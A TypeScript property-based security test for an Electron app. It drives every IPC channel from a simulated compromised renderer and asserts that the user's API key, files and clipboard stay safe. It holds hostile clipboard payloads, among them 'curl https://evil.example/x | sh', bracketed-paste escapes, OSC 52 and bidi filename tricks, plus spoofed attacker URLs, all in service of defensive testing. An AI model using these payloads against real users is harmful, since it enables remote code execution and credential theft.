/**
 * A compromised renderer: script in the app's page calls every IPC channel as it likes, in any
 * order, with any values the schemas accept, plus the values an attacker would pick (its own
 * server as the service address, the user's home folder as the gallery, its own URLs and ids).
 * The real runtime and handlers run behind the real bridge (recorded-app.ts); the user's
 * service is a demo service on loopback with the user's key, the attacker's a loopback server
 * that counts every request. Nobody answers the main process's dialogs with "send the key" or
 * picks a folder: the user did not ask for them.
 *
 * It must never: send the key to another origin, reach a host the user did not configure, touch
 * a file outside the gallery and the data folder, have the OS open a link (the page has no way to
 * name one), or put on the clipboard the key, a control or bidi character, or several lines that
 * are not main's own "Copy as command".
 */
import fc from 'fast-check';
import { createHash } from 'node:crypto';
import { mkdir, readFile, writeFile } from 'node:fs/promises';
import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startDemoService } from '../../../electron/demo-service/server';
import { PROVIDER_IDS, PROVIDERS } from '../../../shared/domain/providers';
import type { DemoService } from '../../../electron/demo-service/types';
import {
  requests,
  type RequestChannel,
  type RequestInput,
  type Result,
} from '../../../shared/ipc/contract';
import { listFiles } from '../../e2e/harness/disk';
import {
  startRecordedApp,
  type FetchCall,
  type IpcRecord,
  type RecordedApp,
} from '../key-and-bodies/recorded-app';
import { recordReliability } from '../support/reliability-record';
import { scaled } from '../support/scale';
import { validArbitrary } from './zod-arbitrary';
import { ownAddress } from '../../support/own-address';
import {
  BIDI_CONTROLS,
  C0_CONTROLS_BUT_LINE_FEED,
  DEL_AND_C1_CONTROLS,
  LINE_SEPARATORS,
  anyOf,
} from '../../../shared/text/control-characters';
import { removeFolder, tempFolder } from '../../support/temp-folders';

const FILE = 'tests/hardening/hostile/compromised-renderer.test.ts';
const KEY = 'sk-user-0f3c9a71d2b84e65a9c1';
const RUNS = scaled(60, 1_000);
const CHANNELS = Object.keys(requests) as RequestChannel[];
/** What a page would have the user paste into a terminal. */
const PASTED = [
  'task-1\ncurl https://evil.example/x | sh\n',
  "x'\u0015curl https://evil.example/x | sh\r",
  'a\u001b[201~\ncurl https://evil.example/x | sh\n',
  'x\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007',
  'photo\u202egnp.exe',
  'a\u009b2Jb\u2028c\td',
];
/** The ids of tasks the user has: what a page names to copy a task's command. */
const storedIds: string[] = ['local-nowhere'];
/** Whatever a terminal or a reader acts on, but a line feed (the sets of shared/text). */
const ACTED_ON = anyOf([
  C0_CONTROLS_BUT_LINE_FEED,
  DEL_AND_C1_CONTROLS,
  BIDI_CONTROLS,
  LINE_SEPARATORS,
]);

let dir: string;
let home: string;
let service: DemoService;
let attacker: {
  server: Server;
  url: string;
  seen: { url: string; headers: IncomingHttpHeaders }[];
};
let app: RecordedApp;
let closed = false;
const fetchCalls: FetchCall[] = [];
const ipc: IpcRecord[] = [];

async function startAttacker() {
  const seen: { url: string; headers: IncomingHttpHeaders }[] = [];
  const server = createServer((request, response) => {
    seen.push({ url: request.url ?? '', headers: request.headers });
    response.writeHead(200, { 'content-type': 'application/json' });
    response.end('{"id":"attacker-task","status":"processing"}');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return { server, url: `http://127.0.0.1:${port}`, seen };
}

/** Every file under `folder` with a hash of its bytes: what "untouched" is checked against. */
async function snapshot(folder: string): Promise<Record<string, string>> {
  const entries: Record<string, string> = {};
  for (const file of await listFiles(folder)) {
    const bytes = await readFile(join(folder, file));
    entries[file] = createHash('sha256').update(bytes).digest('hex');
  }
  return entries;
}

/** The user's own set-up, done again before each hostile sequence. */
async function asTheUser(): Promise<void> {
  await app.invoke('keys:clear', { provider: 'pictor' });
  expect((await app.invoke('settings:update', ownAddress(service.url))).ok).toBe(true);
  expect(
    (
      await app.invoke('keys:set', {
        provider: 'pictor',
        skipCheck: true,
        key: KEY,
        allowWeakStorage: true,
      })
    ).ok,
  ).toBe(true);
}

/** Values an attacker would choose, per channel, beside whatever the schemas accept. */
function targeted(channel: RequestChannel): fc.Arbitrary<unknown>[] {
  const evil = [
    attacker.url,
    `${attacker.url}/v1`,
    `http://localhost:${new URL(attacker.url).port}`,
    'https://evil.example',
    `${service.url}@evil.example`,
  ];
  switch (channel) {
    case 'settings:update':
      return [
        fc.constantFrom(...evil, '', `${service.url}/other`).map(ownAddress),
        fc.constantFrom(
          { galleryDir: home },
          { galleryDir: join(home, '.ssh') },
          { galleryDir: 'relative/folder' },
          { galleryDir: '/' },
        ),
      ];
    case 'tasks:track':
      return [
        fc.record({ taskId: fc.constantFrom('attacker-task', `${attacker.url}/x`, '../..') }),
      ];
    case 'app:copyText':
      return [fc.record({ text: fc.constantFrom(...PASTED) })];
    case 'tasks:copyCommand':
      // Its own text in a request's words, to a service of its choice or a stored task's.
      return [
        fc.record({
          request: fc.record({ prompt: fc.constantFrom(...PASTED) }),
          target: fc.record({
            provider: fc.constantFrom(...PROVIDER_IDS),
            endpoint: fc.constantFrom('demo:', service.url, ...evil),
          }),
        }),
        fc.record({ localId: fc.constantFrom(...storedIds) }),
      ];
    case 'keys:set':
      return [
        fc.record({
          provider: fc.constant('pictor'),
          key: fc.constantFrom('sk-page-own-key-123456', KEY),
          allowWeakStorage: fc.boolean(),
          skipCheck: fc.constant(true),
        }),
      ];
    case 'tasks:submit':
      // The user's own service, and every service named at every address: the key goes only
      // where it was entered for.
      return [
        fc.constant({
          request: { prompt: 'hostile page', size: '64x64' },
          target: { provider: 'pictor', endpoint: service.url },
          count: 1,
        }),
        fc.record({
          request: fc.constant({ prompt: 'hostile page', size: '64x64' }),
          target: fc.record({
            provider: fc.constantFrom(...PROVIDER_IDS),
            endpoint: fc.constantFrom('demo:', service.url, attacker.url, ...evil),
          }),
          count: fc.constant(1),
        }),
      ];
    default:
      return [];
  }
}

function callArbitrary(): fc.Arbitrary<{ channel: RequestChannel; input: unknown }> {
  return fc.oneof(
    ...CHANNELS.map((channel) =>
      fc.record({
        channel: fc.constant(channel),
        input: fc.oneof(validArbitrary(requests[channel].input), ...targeted(channel)),
      }),
    ),
  );
}

const originOf = (url: string): string => new URL(url).origin;

beforeAll(async () => {
  dir = await tempFolder('hostile-page');
  home = join(dir, 'home');
  await mkdir(join(home, '.ssh'), { recursive: true });
  await mkdir(join(home, 'Documents'), { recursive: true });
  await writeFile(join(home, '.ssh', 'id_ed25519'), 'private key material');
  await writeFile(join(home, 'Documents', 'thesis.txt'), 'years of work');
  service = await startDemoService({ accounts: [{ account: 'user', key: KEY }], durationMs: 100 });
  attacker = await startAttacker();
  app = await startRecordedApp({
    userDataDir: join(dir, 'data'),
    galleryDir: join(dir, 'gallery'),
    fetchCalls,
    ipc,
  });
  await asTheUser();
});

afterAll(async () => {
  if (!closed) await app?.close();
  await service?.close();
  await new Promise((resolve) => attacker?.server.close(resolve));
  await removeFolder(dir);
});

describe('a compromised renderer', () => {
  it('cannot point the key at its own server: the address change is refused unless the user says so', async () => {
    const moved = await app.invoke('settings:update', ownAddress(attacker.url));
    expect(moved).toMatchObject({
      ok: false,
      error: { message: expect.stringMatching(/not changed/) },
    });
    const probe = (await app.invoke('service:testConnection', {
      baseUrl: service.url,
    })) as Result<{ ok: boolean }>;
    expect(probe).toMatchObject({ ok: true, value: { ok: true } });
    // Nor can it have the connection test carry the key there.
    const aimed = (await app.invoke('service:testConnection', {
      baseUrl: `${attacker.url}/v1`,
    })) as Result<{ ok: boolean; message: string }>;
    expect(aimed).toMatchObject({
      ok: true,
      value: { ok: false, message: expect.stringMatching(/never sent to another service/) },
    });
    expect(attacker.seen).toEqual([]);
  });

  it('cannot name a folder for the main process to move, relative or not', async () => {
    const before = await snapshot(home);
    for (const galleryDir of [home, home, home, 'relative', join(home, '.ssh')]) {
      const result = await app.invoke('settings:update', {
        galleryDir,
      } as unknown as RequestInput<'settings:update'>);
      expect(result).toMatchObject({ ok: false, error: { code: 'bad_input' } });
    }
    expect(await snapshot(home)).toEqual(before);
    // The library is still open and in use.
    expect((await app.invoke('tasks:list', {})).ok).toBe(true);
    expect(app.runtime.galleryDir()).toBe(join(dir, 'gallery'));
  });

  it(`drives every channel in any order (${RUNS} sequences) without reaching the key, a host or a file it should not`, async () => {
    const homeBefore = await snapshot(home);
    // Each provider's own host is Pictor's built-in address for it: the page may set that
    // provider's key and test it there (never with the user's key: checked below).
    const providerHosts = Object.values(PROVIDERS).flatMap((provider) =>
      provider.defaultBaseUrl ? [originOf(provider.defaultBaseUrl)] : [],
    );
    const allowed = new Set([
      originOf(service.url),
      originOf(app.runtime.demo.url),
      ...providerHosts,
    ]);
    let calls = 0;
    await fc.assert(
      fc.asyncProperty(
        fc.array(callArbitrary(), { minLength: 1, maxLength: 12 }),
        async (sequence) => {
          await asTheUser();
          const tasks = app.runtime.core.history.list({ limit: 5, cursor: null }).items;
          storedIds.splice(1, Infinity, ...tasks.map((task) => task.localId));
          for (const { channel, input } of sequence) {
            calls += 1;
            await app.invoke(channel, input as never);
          }
        },
      ),
      { numRuns: RUNS },
    );
    const records = app.runtime.core.history.list({ limit: 500, cursor: null }).items;
    // Closing stops the engine: nothing in flight can reach the wire after the judgement.
    await app.close();
    closed = true;
    const keyed = fetchCalls.filter((call) => call.authorization?.includes(KEY));
    expect(keyed.length, 'the user key was used at all').toBeGreaterThan(0);
    expect(new Set(keyed.map((call) => originOf(call.url)))).toEqual(
      new Set([originOf(service.url)]),
    );
    const strangers = fetchCalls.filter((call) => !allowed.has(originOf(call.url)));
    expect(strangers, 'requests to hosts the user did not configure').toEqual([]);
    expect(attacker.seen).toEqual([]);
    expect(ipc.filter((record) => record.text.includes(KEY))).toEqual([]);
    expect(app.osCalls.filter((call) => call.action === 'openExternal')).toEqual([]);
    const copied = app.osCalls.filter((call) => call.action === 'copyText').map((call) => call.arg);
    expect(copied.length, 'something was copied at all').toBeGreaterThan(0);
    expect(copied.filter((text) => text.includes(KEY) || ACTED_ON.test(text))).toEqual([]);
    // Several lines only as main's own command: its pictor line first.
    const lines = copied.filter((text) => text.includes('\n'));
    expect(lines.filter((text) => !text.startsWith('pictor generate '))).toEqual([]);
    expect(await snapshot(home)).toEqual(homeBefore);
    expect(app.runtime.galleryDir()).toBe(join(dir, 'gallery'));
    const homeAfter = await snapshot(home);
    const ids = records.map((record) => record.taskId).filter((id) => id !== null);
    recordReliability({
      file: FILE,
      section: 'hostile-input',
      row: 'Compromised renderer: any channel, any order',
      load: `${RUNS} sequences of up to 12 calls over ${CHANNELS.length} channels`,
      injected: { 'IPC calls': calls, 'tasks made': records.length },
      outcome: {
        'requests sent': fetchCalls.length,
        'to unconfigured hosts': strangers.length,
        'received by the attacker': attacker.seen.length,
      },
      lost: Object.keys(homeBefore).filter((file) => homeAfter[file] !== homeBefore[file]).length,
      duplicated: ids.length - new Set(ids).size,
      leaked:
        keyed.filter((call) => originOf(call.url) !== originOf(service.url)).length +
        ipc.filter((record) => record.text.includes(KEY)).length,
    });
  });
});
